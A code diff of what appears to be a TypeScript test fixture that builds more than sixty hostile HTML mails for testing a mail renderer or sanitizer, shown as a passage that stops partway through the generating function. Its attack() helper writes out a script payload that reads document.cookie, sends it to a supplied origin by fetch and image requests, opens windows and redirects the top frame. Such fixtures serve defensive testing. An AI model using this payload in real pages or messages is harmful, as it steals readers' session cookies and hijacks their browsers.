@@ -1,18 +1,22 @@
-// Sixty and more HTML mails that attack their readers: they want to run, to call home, to lead away.
+// More than sixty HTML messages that attack their readers: they try to run scripts, to send requests, or to navigate
+// away.
 
-/** One of them. */
+/** A hostile message. */
 export interface HostileMail {
   readonly name: string
   readonly html: string
 }
 
-/** Everything that a script would do if it ran. */
+/** Returns a script that performs every attack. */
 const attack = (home: string): string =>
   `alert(document.cookie);top.pwned=1;document.title='pwned';fetch('${home}/f?'+document.cookie);new Image().src='${home}/i';open('${home}/o');top.location='${home}/t'`
 
 const attribute = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
 
-/** @param home where they call home to, an origin */
+/**
+ * Returns the hostile messages.
+ * @param home origin to which the messages try to send requests
+ */
 export function hostileMails(home: string): HostileMail[] {
   const js = attack(home)
   const inAttribute = attribute(js)
